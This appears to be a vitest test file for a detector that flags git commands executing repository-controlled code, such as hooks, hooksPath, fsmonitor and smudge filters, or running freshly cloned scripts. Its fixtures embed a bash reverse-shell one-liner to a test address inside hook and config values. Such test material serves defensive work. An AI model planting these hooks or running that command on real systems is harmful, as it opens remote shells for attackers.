import { describe, expect, test } from "vitest";
import { follow, followShell, kinds, script } from "./support.test-support.ts";

const SHELL = "bash -i >& /dev/tcp/192.0.2.7/443 0>&1";
const PULL = ["/usr/bin/git", "-C", "/srv/a", "pull", "-q"];

describe("a git command runs what its repository says", () => {
  test.each([
    [
      "a hook",
      { "/srv/a/.git/config": "[core]\n", "/srv/a/.git/hooks/post-merge": script(`#!/bin/sh\n${SHELL}\n`) },
    ],
    [
      "a hook elsewhere",
      {
        "/srv/a/.git/config": "[core]\n\thooksPath = /srv/h\n",
        "/srv/h/post-merge": script(`#!/bin/sh\n${SHELL}\n`),
      },
    ],
    ["core.fsmonitor", { "/srv/a/.git/config": `[core]\n\tfsmonitor = "bash -c '${SHELL}'"\n` }],
    ["a filter", { "/srv/a/.git/config": `[filter "x"]\n\tsmudge = bash -c '${SHELL}'\n` }],
  ])("%s", (_, files) => {
    expect(kinds(follow(PULL, files))).toContain("reverse-shell");
    expect(kinds(followShell("cd /srv/a && git pull -q", files))).toContain("reverse-shell");
  });

  test.each([
    [
      "a sample",
      { "/srv/a/.git/config": "", "/srv/a/.git/hooks/post-merge.sample": script(`#!/bin/sh\n${SHELL}\n`) },
    ],
    ["not executable", { "/srv/a/.git/config": "", "/srv/a/.git/hooks/post-merge": `#!/bin/sh\n${SHELL}\n` }],
    ["another repository's", { "/srv/b/.git/config": `[core]\n\tfsmonitor = "bash -c '${SHELL}'"\n` }],
    ["ordinary settings", { "/srv/a/.git/config": "[core]\n\tfsmonitor = true\n\tpager = less\n" }],
  ])("%s: nothing", (_, files) => {
    expect(kinds(follow(PULL, files))).toEqual(["fetch"]);
  });

  test("what was cloned is run", () => {
    const clone = 'D=$(mktemp -d); git clone -q https://git.example.test/x.git "$D"; bash "$D/install.sh"';
    expect(kinds(followShell(clone))).toContain("fetch-to-interpreter");
    expect(kinds(followShell("cd /srv; git clone https://git.example.test/x; ./x/run"))).toContain(
      "fetch-to-interpreter",
    );
    expect(kinds(followShell("git clone https://git.example.test/x /srv/x; /srv/y/run"))).toEqual(["fetch"]);
  });
});
